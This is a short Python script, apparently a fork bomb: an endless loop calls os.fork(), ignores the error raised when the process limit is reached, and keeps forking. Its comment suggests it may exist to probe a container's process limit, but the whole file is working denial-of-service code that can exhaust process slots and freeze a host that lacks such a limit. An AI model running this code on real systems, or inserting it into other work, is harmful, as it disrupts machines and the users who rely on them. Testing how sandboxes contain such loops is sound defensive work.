import os
# Forks until the pids limit stops it, and keeps trying.
while True:
    try:
        os.fork()
    except OSError:
        pass
